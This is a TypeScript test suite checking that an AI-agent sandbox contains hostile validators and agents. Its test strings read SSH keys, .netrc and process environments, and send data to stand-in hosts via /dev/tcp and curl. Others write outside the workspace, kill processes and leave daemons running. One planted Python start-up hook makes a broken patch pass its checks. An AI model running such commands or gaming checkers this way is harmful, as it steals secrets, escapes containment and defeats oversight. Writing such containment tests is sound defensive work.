import { type ChildProcess, spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import {
  attemptDir,
  captureHost,
  createHostileEnv,
  disposeHostileEnvs,
  eventsOf,
  expectGateFailed,
  expectHostUnchanged,
  expectNoSecretLeak,
  expectOutcome,
  GATE_FAILED,
  hostAddresses,
  outsideTargets,
  patchPaths,
  patchText,
  processesMentioning,
  READY,
  runHostile,
  shq,
  skipHostile,
  sleep,
  startTcpSink,
  type TcpSink,
} from './hostile-fixture.js';

const victims: ChildProcess[] = [];
const sinks: TcpSink[] = [];
afterEach(async () => {
  for (const sink of sinks.splice(0)) await sink.close();
});
afterAll(() => {
  for (const victim of victims) victim.kill('SIGKILL');
  disposeHostileEnvs();
});

/** The agent's part is harmless: the hostile code is the validator (a test suite it wrote). */
const HARMLESS_AGENT = 'echo ok > y.txt';
const VALIDATOR = 'validator:validator-1';

describe.skipIf(skipHostile)('adversarial: a validator tries to escape', () => {
  it('writes outside the workspace (absolute paths, `..`, /proc/1/root, the repo .git/config)', async () => {
    const env = createHostileEnv();
    const before = captureHost(env);
    const planted = join(env.canary, `planted-${env.token}`);
    const validator = [
      `for t in ${outsideTargets(env).map(shq).join(' ')}; do mkdir -p "$(dirname "$t")" 2>/dev/null; echo pwned > "$t"; done`,
      `echo pwned > /proc/1/root${planted}; echo pwned > ../../planted-${env.token}`,
      `printf '[core]\\n\\thooksPath = /tmp\\n' >> ${shq(join(env.repo, '.git', 'config'))}`,
      // Passes only if the real canary directory is visible (the writes above may well have
      // succeeded in the sandbox's private /tmp, which proves nothing).
      `cat ${shq(join(env.canary, 'secret.txt'))}`,
    ].join('\n');
    const run = await runHostile(env, HARMLESS_AGENT, { validate: [validator] });
    expectOutcome(env, run, GATE_FAILED);
    expectGateFailed(run, VALIDATOR, 'GATE_FAILED');
    expectHostUnchanged(env, before);
    expectNoSecretLeak(env, run);
  });

  it('reads secrets (the host HOME, the canary, env, /proc/*/environ, the database) and prints them', async () => {
    const env = createHostileEnv();
    const before = captureHost(env);
    const validator = [
      `cat ${shq(join(env.fakeHome, '.ssh', 'id_ed25519'))} ${shq(join(env.fakeHome, '.netrc'))} ${shq(join(env.canary, 'secret.txt'))} ${shq(join(env.home, 'aas.db'))} > found.txt 2>&1`,
      'env >> found.txt; cat /proc/[0-9]*/environ >> found.txt 2>&1',
      'cat found.txt; cat found.txt >&2',
      'grep -q aascanary found.txt',
    ].join('\n');
    const run = await runHostile(env, HARMLESS_AGENT, {
      validate: [validator],
      keepWorkspace: true,
    });
    expectOutcome(env, run, GATE_FAILED);
    expectGateFailed(run, VALIDATOR, 'GATE_FAILED');
    // Validators run in a fresh workspace of base + patch, removed after the gates: their
    // found.txt never lands in the agent's (kept) workspace; their captured output is scanned.
    expect(run.files.has(join(attemptDir(env, run), 'workspace', 'found.txt'))).toBe(false);
    expectHostUnchanged(env, before);
    expectNoSecretLeak(env, run);
  });

  it('uses the network with the default policy (TCP to the host, DNS)', async () => {
    const env = createHostileEnv();
    const sink = await startTcpSink();
    sinks.push(sink);
    const before = captureHost(env);
    const hosts = ['127.0.0.1', ...(hostAddresses().ipv4 === null ? [] : [hostAddresses().ipv4])];
    const validator = [
      'getent hosts exfil.example.com',
      ...hosts.map((host) => `bash -c "exec 3<>/dev/tcp/${host}/${sink.port} && echo exfil >&3"`),
      `curl -sf -m 3 http://${hosts.at(-1)}:${sink.port}/`,
    ].join('\n');
    const run = await runHostile(env, HARMLESS_AGENT, { validate: [validator] });
    await sleep(300);
    expectOutcome(env, run, GATE_FAILED);
    expectGateFailed(run, VALIDATOR, 'GATE_FAILED');
    expect(sink.connections()).toBe(0);
    expectHostUnchanged(env, before);
    expectNoSecretLeak(env, run, { extra: [{ where: 'sink', bytes: sink.received() }] });
  });

  it('reaches an unlisted host through the egress proxy (recorded in the validators phase)', async () => {
    const env = createHostileEnv();
    const sink = await startTcpSink();
    sinks.push(sink);
    const before = captureHost(env);
    const validator = [
      'curl -sS -m 5 https://evil.example.com/',
      `curl -sf -m 5 --noproxy '' http://127.0.0.1:${sink.port}/`,
    ].join('\n');
    const run = await runHostile(env, HARMLESS_AGENT, {
      validate: [validator],
      serverPolicy: { network: { allow: ['allowed.example.com'] } },
    });
    await sleep(300);
    expectOutcome(env, run, GATE_FAILED);
    expectGateFailed(run, VALIDATOR, 'GATE_FAILED');
    const refused = eventsOf(run, 'network.refused').map((e) => e.data);
    expect(refused).toContainEqual(
      expect.objectContaining({ phase: 'validators', host: 'evil.example.com', port: 443 }),
    );
    expect(refused).toContainEqual(
      expect.objectContaining({ phase: 'validators', host: '127.0.0.1', port: sink.port }),
    );
    expect(eventsOf(run, 'network.allowed')).toEqual([]);
    expect(sink.connections()).toBe(0);
    expectHostUnchanged(env, before);
    expectNoSecretLeak(env, run);
  });

  it('rewrites the workspace after the patch was computed (.env, a new file, a deletion, an escaping link)', async () => {
    const env = createHostileEnv();
    const before = captureHost(env);
    const validator = [
      "echo 'TOKEN=stolen' > .env",
      'echo late > late.txt',
      'rm README.md',
      'ln -s / rootlink',
      'true',
    ].join('\n');
    const run = await runHostile(env, HARMLESS_AGENT, { validate: [validator] });
    expectOutcome(env, run, READY);
    // What is promoted is what the agent left, not what its test suite did afterwards.
    expect(patchPaths(run)).toEqual(['y.txt']);
    expect(patchText(run)).not.toMatch(/late\.txt|\.env|rootlink|README/);
    expectHostUnchanged(env, before);
    expectNoSecretLeak(env, run);
  });

  it('daemonises and signals everything it can see, to act after validation ended', async () => {
    const env = createHostileEnv();
    const victim = spawn('sleep', ['600'], { stdio: 'ignore' });
    victims.push(victim);
    const before = captureHost(env);
    const late = `late-${env.token}`;
    const validator = [
      `setsid nohup sh -c 'sleep 2; echo late > "$HOME/${late}"; echo late > ${late}; echo late > ${env.canary}/planted-${env.token}' >/dev/null 2>&1 &`,
      `kill -KILL ${victim.pid} 2>&1; kill -TERM -1; kill -9 $PPID`,
      'true',
    ].join('\n');
    const run = await runHostile(env, HARMLESS_AGENT, { validate: [validator] });
    expectOutcome(env, run, READY);
    await sleep(200);
    expect(processesMentioning(env.token)).toEqual([]);
    await sleep(3000);
    // Neither the agent's HOME (aep/home) nor anything else of the attempt gets the late write.
    expect(existsSync(join(attemptDir(env, run), 'aep', 'home', late))).toBe(false);
    expect(victim.exitCode === null && victim.signalCode === null).toBe(true);
    expectHostUnchanged(env, before);
    expectNoSecretLeak(env, run);
  });

  it.skipIf(!existsSync('/usr/bin/python3'))(
    'shapes the validator environment (usercustomize.py in HOME, a poisoned ignored cache) so a broken patch passes',
    async () => {
      const env = createHostileEnv({
        '.gitignore': '__pycache__/\n',
        'a.txt': 'good\n',
        'check.py': "import sys\nsys.exit(0 if open('a.txt').read().strip() == 'good' else 1)\n",
      });
      const before = captureHost(env);
      const agent = [
        'echo broken > a.txt',
        // Python imports usercustomize from the user site directory at start-up.
        'site=$(/usr/bin/python3 -c "import site; print(site.getusersitepackages())")',
        'mkdir -p "$site" && printf "import os\\nos._exit(0)\\n" > "$site/usercustomize.py"',
        // An ignored file next to the code: never part of the patch.
        'mkdir -p __pycache__ && printf "import os\\nos._exit(0)\\n" > sitecustomize.py.ignored && cp sitecustomize.py.ignored __pycache__/sitecustomize.py && rm sitecustomize.py.ignored',
      ].join('\n');
      const run = await runHostile(env, agent, { validate: ['/usr/bin/python3 check.py'] });
      // The validator ran on base + patch with a HOME of its own: the broken a.txt fails it.
      expectOutcome(env, run, GATE_FAILED);
      expectGateFailed(run, VALIDATOR, 'GATE_FAILED');
      expectHostUnchanged(env, before);
      expectNoSecretLeak(env, run);
    },
  );
});
